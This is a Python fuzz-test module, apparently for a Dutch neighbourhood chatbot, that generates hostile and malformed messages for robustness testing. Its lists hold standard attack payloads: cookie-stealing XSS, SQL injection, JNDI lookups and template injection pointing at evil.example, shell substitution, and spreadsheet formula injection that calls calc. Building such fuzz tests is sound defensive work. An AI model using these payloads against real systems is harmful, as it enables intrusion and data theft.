"""Hostile and odd messages for the fuzz tests (tests/fuzz, tests/e2e/test_fuzz_rest.py).

`messages` covers, each as its own branch and mixed together:

- unicode edge cases: any code point except surrogates (impossible in a Python str), zero-width
  characters and joiners, bidi overrides and isolates, combining-character stacks, non-characters,
  private use, tag characters, variation selectors, full-width look-alikes, emoji sequences, odd
  case mappings, line/paragraph separators
- control characters: NUL and every other C0 and C1 control, DEL
- very long words: up to 5,000 characters, ASCII and non-ASCII, alone and inside a sentence
- HTML/JS: script, event-handler attributes, javascript: URLs, comments, doctype, broken-out
  attributes, entities
- SQL fragments: `'; DROP TABLE intakes; --`, OR 1=1, UNION SELECT, LIKE wildcards, backslashes
- format and template strings: `{0}`, `%s`, `%n`, `${jndi:...}`, `{{7*7}}`, `{% ... %}`, `#{...}`
- spreadsheet formulas: cells starting with `=`, `+`, `-`, `@`
- JSON in text: fixed examples and generated JSON objects/arrays, alone or inside a sentence
- Rasa-command-looking text: `/restart`, `/choose{"theme":"x"}`, broken payloads, entity markup
- mixed languages: Dutch and English sentences mixed word by word, plus other scripts
"""

from __future__ import annotations

import json

from hypothesis import strategies as st

HTML_JS = [
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "javascript:alert(1)", "<b>vet</b>",
    "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<!-- verborgen -->", "<!DOCTYPE html>",
    '"><script>alert(document.cookie)</script>', "'><img src=x onerror=alert(1)>", "</textarea><script>x()</script>",
    "</td></tr></table><h1>nep</h1>", '<a href="javascript:alert(1)">klik</a>', "&lt;script&gt;", "&amp;&#60;&#x3c;",
    "<style>body{display:none}</style>", "<math><mi xlink:href=javascript:alert(1)>", "<![CDATA[x]]>", "<p", "</",
    "<ScRiPt>alert(1)</sCrIpT>", '<div style="background:url(javascript:alert(1))">', "\\u003cscript\\u003e",
]
SQL = [
    "'; DROP TABLE intakes; --", "1 OR 1=1", "\" OR \"\"=\"", "' OR '1'='1", "1; SELECT * FROM users --",
    "' UNION SELECT username, password_hash FROM users --", "%' --", "100%_korting", "a\\'b", "\\", "\\\\%",
    "'); DELETE FROM intake_events; --", "Robert'); DROP TABLE students;--", "admin'--", "' AND SLEEP(5) --",
]
FORMAT = [
    "{0}", "{1}{2}", "%s", "%d", "%(x)s", "%n%n%n%n", "%x%x%x", "{x}", "{{x}}", "{{7*7}}", "${7*7}", "${HOME}",
    "${jndi:ldap://evil.example/a}", "${jndi:${lower:l}dap://x}", "{% debug %}", "{% for x in range(9**9) %}",
    "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "{__class__.__mro__}", "{description}", "{theme_label}", "{0!r:>99}",
    "[link](https://evil.example)", "[Merenwijk](neighbourhood)", '[x]{"entity":"theme","value":"safety"}',
]
FORMULA = ['=HYPERLINK("http://evil.example","klik")', "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0"]
JSON_TEXT = [
    '{"text": "hoi", "intent": "affirm"}', '{"sender": "x", "message": "/restart"}', "[1, 2, {\"a\": null}]",
    '{"description": "<script>alert(1)</script>"}', "{", "}", "[[[[[[[[[[", '{"a":' * 20, "null", "true", "1e999",
]
COMMANDS = [
    "/restart", "/stop", "/affirm", "/deny", '/choose{"theme":"safety"}', '/choose{"theme":"x"}',
    '/choose{"theme":"more"}', '/choose{"neighbourhood":"BU05460302"}', '/choose{"neighbourhood":"<b>x</b>"}',
    "/choose{broken", "/choose{}", '/inform{"description": "\'; DROP TABLE intakes; --"}', "/session_start",
    "/action_restart", "/nlu_fallback", "/greet@0.9", "/", "//", "/ /", "/restart extra words",
]
ODD_UNICODE = [
    "😀👍🏽🇳🇱", "👨‍👩‍👧‍👦", "🏳️‍🌈", "\u202eevil\u202c", "\u2066isolaat\u2069", "\u202a\u202b\u202d\u202e",
    "\u200b\u200c\u200d\ufeff", "\u00ad\u2060\u180e", "\u2028\u2029\x85", "ǅ ﬁ ẞ İ ı ŉ ΐ", "Z̴̡̛̖̙a̸̲̓l̶̝̈́g̵̙͂o̷͙͐",
    "e\u0301\u0301\u0301\u0301\u0301", "\ufffe\uffff\U0010ffff\U0001fffe", "\ue000\uf8ff\U000f0000",
    "\U000e0041\U000e0042\U000e007f", "\ufe0f\ufe0e\U000e0100", "＜script＞alert(1)＜/script＞", "\u3164\u115f",
    "مرحبا بالعالم", "שלום", "你好世界", "こんにちは", "안녕하세요", "Привет", "Γειά σου", "नमस्ते", "𝓗𝓮𝓵𝓵𝓸",
    "ＦＵＬＬ", "\ufdfd", "\u0e14\u0e4d\u0e4d\u0e4d\u0e4d", "\U0001d4ae\U0001d4af", "\u1680\u3000\u00a0\u2007",
]
CONTROL = ["\x00", "\x00\x00\x00", "\x07\x08\x0b\x0c", "\r\n", "\r", "\x1b[31mrood\x1b[0m", "\x7f", "\x80\x9f",
           "\x1a", "\\x00\\n"]
DUTCH = ["Ik", "woon", "in", "de", "Merenwijk", "en", "er", "ligt", "veel", "zwerfafval", "bij", "het", "speelveld",
         "wij", "willen", "een", "buurtfeest", "organiseren", "met", "hulp", "van", "de", "gemeente", "Leiden",
         "Stevenshof", "graag", "snel", "voor", "volgende", "week", "ouderen", "eenzaam", "fietspad", "gevaarlijk"]
ENGLISH = ["I", "live", "in", "the", "neighbourhood", "and", "there", "is", "a", "lot", "of", "litter", "near",
           "playground", "we", "want", "to", "organise", "street", "party", "please", "help", "urgent", "next",
           "week", "elderly", "lonely", "bike", "lane", "dangerous", "English", "please", "stop", "yes", "no"]
PLAIN = ["Ik woon in de Merenwijk", "lots of litter", "ja", "nee", "English please", "stop", "Buurt: Stevenshof",
         "Thema: veiligheid", "Vraag: hoe regel ik een buurtfeest?", "mijn e-mail is a@b.nl en 0612345678",
         "BSN 123456782", "Leiden", "Oude Morsch", "De Kooi", "outside", "more", "-", "@", "=", "+"]

SNIPPETS = HTML_JS + SQL + FORMAT + FORMULA + JSON_TEXT + COMMANDS + ODD_UNICODE + CONTROL + PLAIN

# Any code point a str can hold (surrogates excluded), and the control characters on their own.
any_char = st.characters(min_codepoint=0, max_codepoint=0x10FFFF, blacklist_categories=("Cs",))
control_char = st.one_of(st.characters(min_codepoint=0, max_codepoint=0x1F), st.characters(min_codepoint=0x7F,
                                                                                           max_codepoint=0x9F))
odd_char = st.sampled_from("".join(ODD_UNICODE) + "\u200b\u200c\u200d\u200e\u200f\u2061\u2062\u2063\u2064\u034f")

# Very long words: one character or a short chunk repeated up to 5,000 characters.
long_words = st.one_of(
    st.integers(min_value=1, max_value=5000).map(lambda n: "a" * n),
    st.tuples(st.sampled_from(["a", "ä", "ß", "漢", "😀", "<", "%s", "{0}", "'", "\\", "Zwerfafval", "x\u0301"]),
              st.integers(min_value=100, max_value=5000)).map(lambda t: (t[0] * t[1])[:5000]),
    st.tuples(st.text(any_char, min_size=1, max_size=8), st.integers(min_value=500, max_value=5000))
    .map(lambda t: (t[0] * (t[1] // len(t[0]) + 1))[:t[1]]),
)

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
    | st.sampled_from(SNIPPETS),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=10,
)
json_text = json_values.map(lambda v: json.dumps(v, ensure_ascii=False))

mixed_language = st.lists(st.sampled_from(DUTCH) | st.sampled_from(ENGLISH), min_size=1, max_size=30).map(" ".join)

fragment = st.one_of(
    st.sampled_from(SNIPPETS),
    st.text(max_size=40),
    st.text(any_char, max_size=20),
    st.text(control_char, min_size=1, max_size=5),
    st.text(odd_char, min_size=1, max_size=10),
    json_text,
    mixed_language,
)

messages = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=any_char, max_size=100),
    st.text(alphabet=st.one_of(any_char, control_char, odd_char), max_size=200),
    st.lists(st.sampled_from(SNIPPETS), min_size=1, max_size=6).map(" ".join),
    st.tuples(st.sampled_from(SNIPPETS), st.text(max_size=50)).map(lambda t: t[0] + t[1]),
    st.lists(fragment, min_size=1, max_size=8).flatmap(
        lambda parts: st.sampled_from([" ", "", "\n", "\t", " \x00 "]).map(lambda sep: sep.join(parts))),
    long_words,
    st.tuples(mixed_language, long_words, mixed_language).map(" ".join),  # a long word inside a sentence
    st.tuples(mixed_language, json_text).map(" ".join),  # JSON inside a sentence
    st.tuples(st.sampled_from(COMMANDS), mixed_language).map(" ".join),
    st.tuples(mixed_language, st.sampled_from(HTML_JS + SQL + FORMAT + FORMULA), mixed_language).map(" ".join),
    mixed_language,
    st.just(""), st.just("   \n\t "),
)
